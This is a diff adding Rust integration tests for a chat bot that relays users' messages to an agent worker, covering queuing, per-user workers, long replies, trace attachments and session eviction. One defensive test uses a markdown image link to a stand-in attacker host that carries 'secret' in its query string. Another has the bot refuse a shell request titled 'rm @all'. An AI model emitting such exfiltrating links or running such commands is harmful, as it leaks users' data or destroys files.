@@ -32,3 +32,150 @@ async fn a_direct_message_needs_no_mention() {
     asked.answer("Hi.");
     world.says(root, "Hi.").await;
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_second_message_waits_its_turn_and_says_so() {
+    let mut world = World::new().await;
+    let root = world.ask("first");
+    let first = world.supervisor.asked().await;
+    first.ready();
+    // In the bot's own thread no mention is needed.
+    world.sim.reply(world.alice.id, root, "second").unwrap();
+    world.answer(root, |post| post.message.starts_with("Queued")).await;
+    assert!(world.supervisor.done().is_none(), "the second turn began too early");
+    first.say("one").end(TurnEnd::Complete);
+    let second = world.supervisor.asked().await;
+    assert_eq!((second.text.as_str(), second.before), ("second", Before::Complete));
+    assert_eq!(second.resume, gaggle_ipc::GooseSession::new(&format!("s_{}", first.turn.0)).ok());
+    second.answer("two");
+    world.says(root, "two").await;
+    assert_eq!(world.texts(root), ["one", "two"]);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn somebody_else_in_the_thread_has_a_worker_of_their_own() {
+    let mut world = World::new().await;
+    let root = world.ask("mine");
+    let alices = world.supervisor.asked().await;
+    alices.ready();
+    // Without a mention bob talks to alice, not to the bot.
+    world.sim.reply(world.bob.id, root, "not for the bot").unwrap();
+    world.sim.reply(world.bob.id, root, "@goosebot his").unwrap();
+    let bobs = world.supervisor.asked().await;
+    assert_eq!((bobs.text.as_str(), bobs.user), ("his", user(&world.bob)));
+    assert_eq!((bobs.thread, &bobs.resume), (alices.thread, &None));
+    bobs.answer("for bob");
+    world.says(root, "for bob").await;
+    alices.say("for alice").end(TurnEnd::Complete);
+    world.says(root, "for alice").await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn forty_thousand_characters_come_whole_and_in_order() {
+    let mut world = World::new().await;
+    let root = world.ask("much");
+    let asked = world.supervisor.asked().await;
+    let words: Vec<String> = (0..8000).map(|n| format!("w{n:04}")).collect();
+    asked.answer(&words.join(" "));
+    world.answer(root, |post| post.message.ends_with("w7999")).await;
+    world.answer(root, |post| post.message.starts_with("w0000")).await;
+    let texts = world.texts(root).join(" ");
+    assert_eq!(texts.split_whitespace().collect::<Vec<_>>(), words);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_the_agent_writes_notifies_and_fetches_nothing() {
+    let mut world = World::new().await;
+    let root = world.ask("news");
+    let asked = world.supervisor.asked().await;
+    asked.answer("@channel look ![x](http://e.vil/?q=secret) `@all`");
+    let want = "@\u{200b}channel look `![x](http://e.vil/?q=secret)` `@all`";
+    world.says(root, want).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_long_turn_ends_with_a_new_post_that_names_the_person() {
+    let mut world = World::prepare().await;
+    world.long = std::time::Duration::ZERO;
+    world.start().await;
+    world.reading().await;
+    let root = world.ask("slow");
+    let asked = world.supervisor.asked().await;
+    asked.ready().tool(1, ToolState::Completed, "shell · make");
+    world.says(root, "Thinking... [shell · make]").await;
+    asked.say("Done.").end(TurnEnd::Complete);
+    world.says(root, "@alice\n\nDone.").await;
+    let left = world.answer(root, |post| post.message.starts_with("*Worked for")).await;
+    assert!(left.message.contains("1 action"));
+    assert_eq!(world.texts(root).len(), 2);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn full_trace_stands_in_an_attachment_that_edits_keep() {
+    let mut world = World::prepare().await;
+    world.set("GOOSE_THINKING_TRACE", "true");
+    world.set("GOOSE_THINKING_TRACE_SIMPLIFIED", "false");
+    world.start().await;
+    world.reading().await;
+    let root = world.ask("x");
+    let asked = world.supervisor.asked().await;
+    asked.ready().think("a thought").tool(1, ToolState::Completed, "shell · ls");
+    asked.say("Done.").end(TurnEnd::Complete);
+    let post = world.says(root, "Done.").await;
+    let shown = post.props["attachments"].to_string();
+    assert!(shown.contains("a thought") && shown.contains("shell · ls"));
+    assert_eq!(post.props["from_bot"], "true");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_question_for_permission_is_refused_and_said() {
+    let mut world = World::new().await;
+    let root = world.ask("danger");
+    let asked = world.supervisor.asked().await;
+    asked.ready().word(gaggle_ipc::session::FromWorker::PermissionAsk {
+        thread: asked.thread,
+        turn: asked.turn,
+        ask: 1,
+        name: gaggle_ipc::Text::lossy("shell"),
+        title: gaggle_ipc::Text::lossy("shell · rm @all"),
+        detail: gaggle_ipc::Text::default(),
+    });
+    let reply = world.supervisor.next().await;
+    assert!(matches!(reply, Did::Replied(gaggle_ipc::session::PermissionChoice::Reject)));
+    asked.say("Then not.").end(TurnEnd::Complete);
+    let post = world.answer(root, |post| post.message.ends_with("Then not.")).await;
+    assert!(post.message.contains("Goose asked to use `shell · rm @all`. I refused"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_thread_unused_longest_is_set_aside() {
+    let mut world = World::prepare().await;
+    world.set("MAX_SESSIONS", "1");
+    world.start().await;
+    world.reading().await;
+    let first = world.ask("one");
+    let asked = world.supervisor.asked().await;
+    let thread = asked.thread;
+    asked.answer("1");
+    world.says(first, "1").await;
+    let second = world.ask("two");
+    loop {
+        match world.supervisor.next().await {
+            Did::Closed(closed) => {
+                assert_eq!(closed, thread);
+                break;
+            }
+            Did::Asked(asked) => asked.answer("2"),
+            other => panic!("{other:?}"),
+        }
+    }
+    world.says(second, "2").await;
+    // It goes on where it was.
+    world.sim.reply(world.alice.id, first, "more").unwrap();
+    loop {
+        if let Did::Asked(asked) = world.supervisor.next().await {
+            assert!(asked.resume.is_some());
+            return;
+        }
+    }
+}
